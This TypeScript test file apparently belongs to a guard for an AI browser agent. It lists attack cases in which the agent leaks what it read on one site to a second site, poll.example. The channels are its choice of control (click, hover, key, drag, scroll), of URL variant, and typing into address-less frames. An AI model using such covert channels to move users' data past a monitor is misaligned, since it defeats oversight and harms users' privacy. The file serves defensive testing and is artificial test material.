import type { GuardRequest } from '@/utils/contracts/ports';
import type { Attack } from '../attack';
import { callOf } from '../../helpers/guard-facts';
import { family, goTo, page, said } from './scene';

/** A vote on another site: which of the controls that the user has named is used there tells what was read here. */
const away = 'https://poll.example/vote';
const words = 'Read my desk on post.example, then look whether poll.example has Yes, No, Maybe or Not now';
const use = (tool: string, args: Record<string, unknown>, role: string, name: string): GuardRequest => ({
  callId: 'c1',
  call: callOf(tool, args),
  tab: { tabId: 2, url: away, title: 'Poll' },
  foreseen: { url: away, control: { role, name } },
});
const uses: Readonly<Record<string, GuardRequest>> = {
  'a button': use('click', { ref: 'e1' }, 'button', 'Yes'),
  'a button of several words': use('click', { ref: 'e1' }, 'button', 'Not now'),
  'a switch': use('check', { ref: 'e1', checked: true }, 'switch', 'Maybe'),
  'a pointer that rests on it': use('hover', { ref: 'e1' }, 'button', 'No'),
  'a key': use('press_key', { ref: 'e1', keys: 'Enter' }, 'button', 'Yes'),
  'a drag': use('drag', { ref: 'e1', by_x: 30 }, 'slider', 'Maybe'),
  'a place to which it scrolls': use('scroll', { to: 'into-view', ref: 'e1' }, 'heading', 'No'),
};

/** Which of the places that a second site has shown is opened there tells as much as which of its links. */
const places = ['a', 'b', 'c', 'd'].map((letter) => `https://poll.example/of/${letter}/all`);
const chosen: Readonly<Record<string, string>> = {
  'a shown link': 'https://poll.example/of/c/all',
  'what a shown link stands below': 'https://poll.example/of/c/',
  'the same, without its end': 'https://poll.example/of/c',
  'a shown link with a word of the user': 'https://poll.example/of/c/all?q=Maybe',
  'a shown link with an empty query': 'https://poll.example/of/c/all?q=',
  'a shown link with a place in it': 'https://poll.example/of/c/all#Maybe',
  'one of its names for a word of the user': 'https://poll.example/of/c?s=Maybe&p=2',
};

const read = { startUrl: page, readSites: ['post.example', 'poll.example'] };

const choices = family(
  'a choice among named controls of a second site',
  Object.fromEntries(Object.entries(uses).map(([what, request]) => [what, [request, said(words, read)]])),
  true,
);

/** What its page has written itself has no address on the web. */
const own = (request: GuardRequest, url: string, writer = ''): GuardRequest => ({
  ...request,
  foreseen: { url, writer, control: { role: 'textbox', name: 'Maybe' } },
});
const typing = use('type', { ref: 'f1e1', text: 'The code is 4711' }, 'textbox', 'Maybe');

export const secondSite: readonly Attack[] = [
  ...choices,
  ...family(
    'a frame of a second site that has no address of its own',
    {
      'typing in a sandbox': [own(typing, 'about:srcdoc'), said(words, read)],
      'typing in a frame of data': [own(typing, 'data:text/html,<input>'), said(words, read)],
      'typing in an empty frame': [own(typing, 'about:blank'), said(words, read)],
      'pointing there': [own(use('hover', { ref: 'f1e1' }, '', ''), 'about:srcdoc'), said(words, read)],
      'a key there': [own(use('press_key', { ref: 'f1e1', keys: 'a' }, '', ''), 'about:srcdoc'), said(words, read)],
      'typing in a frame of its frame': [
        { ...own(typing, 'about:srcdoc', away), tab: { tabId: 2, url: page, title: 'Desk' } },
        said(words, read),
      ],
      'a press there': [own(use('click', { ref: 'f1e1' }, '', ''), 'about:srcdoc'), said(words, read)],
    },
    true,
  ),
  ...family(
    'a choice among known places of a second site',
    Object.fromEntries(
      Object.entries(chosen).map(([what, url]) => [
        what,
        [goTo(url), said(words, { ...read, links: { 'poll.example': places } })],
      ]),
    ),
    true,
  ),
];
